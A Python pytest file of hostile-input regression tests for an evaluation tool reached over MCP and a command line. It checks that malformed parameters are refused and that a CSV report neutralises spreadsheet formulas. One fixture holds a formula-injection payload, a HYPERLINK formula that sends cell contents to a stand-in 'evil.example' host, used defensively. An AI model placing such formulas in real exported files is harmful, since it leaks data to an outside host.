"""Issue 40's findings on a tool, through the surface their first test did not use: a real MCP stdio client where
that test went through ``ultra call``, and ``ultra call`` where it went through MCP (M6, M7, M9, M19, major 4, the
EM/F1 defect). Each input is the issue's repro."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from tests.conftest import run_ultra
from tests.hostile.conftest import clear_error
from tests.hostile.test_caps import caps, refused_in_background, refused_over_mcp, spare_mcp, write_samples
from tests.support.background import Finished
from tests.support.mcp_probe import outcome
from tests.support.openai_stub import OpenAIStub

UNREACHABLE = {"api_key": "", "base_url": "http://127.0.0.1:9/v1"}


def test_m7_a_rubric_label_worth_nan_over_mcp(tmp_path: Path) -> None:
    (tmp_path / "rubrics.yaml").write_text("- {name: ok, criteria: 'Is it ok', scale: {pass: .nan, fail: 0}, "
                                           "inputs: [answer]}\n")  # fmt: skip
    with OpenAIStub() as stub:
        refused_over_mcp(tmp_path, "judge", "rubric_judge",
                         {"pred_ls": ["a", "b"], "rubrics_path": str(tmp_path / "rubrics.yaml"), "judge_cache": "",
                          "save_path": str(tmp_path / "j"), "judge_llm": {"api_key": "", "base_url": stub.base_url}},
                         "rubrics.yaml:1:",
                         "scale label 'pass' must be a non-empty label with a finite number")  # fmt: skip
        assert stub.request_count == 0


@spare_mcp(
    "judge",
    "idk_judge",
    lambda tmp_path: {
        "q_ls": ["q"],
        "pred_ls": ["a"],
        "judge_cache": "",
        "save_path": str(tmp_path / "j"),
        "judge_llm": {**UNREACHABLE, "jury": [{"model_id": f"m{i}", **UNREACHABLE} for i in range(2)], "jury_min": 1.5},
    },
)
def test_m9_jury_min_one_and_a_half_over_mcp(background_run: Finished) -> None:
    refused_in_background(background_run, "judge_llm.jury_min must be a whole number, got 1.5")


@spare_mcp(
    "judge",
    "fill_qrels",
    lambda tmp_path: {
        "fill_budget": True,
        "judge_cache": "",
        "save_path": str(tmp_path / "f"),
        "judge_llm": UNREACHABLE,
    },
)
def test_m19_fill_budget_true_over_mcp(background_run: Finished) -> None:
    refused_in_background(background_run, "`fill_budget` must be an integer or null, got true")


@pytest.mark.parametrize("n", [10_000_000, 10**12])
def test_major_4_compare_judged_n_resamples_through_ultra_call(tmp_path: Path, n: int) -> None:
    done = run_ultra("call", "evaluation.compare_judged", f"samples={json.dumps(write_samples(tmp_path))}",
                     f"n_resamples={n}", "save_path=output/c.json", cwd=tmp_path, timeout=60)  # fmt: skip
    clear_error(
        done, f"n_resamples {n:,} is more than the cap caps.n_resamples = {caps('evaluation')['n_resamples']:,}"
    )
    assert "Unable to allocate" not in done.stderr


TEXTS = ["A", "La", "。", "?"]


@spare_mcp("evaluation", "evaluate", lambda tmp_path: {
    "pred_ls": TEXTS, "gt_ls": [[t] for t in TEXTS], "metrics": ["em", "acc", "f1"], "normalize": "squad",
    "language": "en", "save_path": str(tmp_path / "eval.json")})  # fmt: skip
def test_empty_golds_identical_answers_score_one_over_mcp(background_run: Finished) -> None:
    """``A``/``A``, ``La``/``La``, ``。``/``。``, ``?``/``?``: EM = acc = F1 = 1 under SQuAD v2's rules."""
    is_error, text = outcome(background_run)
    assert not is_error, text
    scores = json.loads(text)["eval_res"]
    assert scores["em"] == scores["acc"] == scores["f1"] == [1.0] * 4


QUESTION = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def report_arguments(tmp_path: Path) -> dict:
    """An evaluation result of two questions written in ``tmp_path``, and the report tool's arguments on it."""
    result = tmp_path / "eval.json"
    result.write_text(json.dumps({"id_ls": [0, 1], "em": [1.0, 0.0], "avg_em": 0.5}))
    return {"result_path": str(result), "q_ls": [QUESTION, "+1+1"], "pred_ls": ["@SUM(A1:A9)", "ok"],
            "out_dir": str(tmp_path / "report")}  # fmt: skip


@spare_mcp("report", "report", report_arguments)
def test_m6_per_query_csv_over_mcp(background_run: Finished) -> None:
    """The report tool called over MCP writes ``=HYPERLINK(...)`` questions and answers neutralised."""
    question = QUESTION
    is_error, text = outcome(background_run)
    assert not is_error, text
    path = Path(json.loads(text)["per_query_csv_path"])
    with path.open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [(row["question"], row["answer"]) for row in rows] == [("'" + question, "'@SUM(A1:A9)"), ("'+1+1", "ok")]
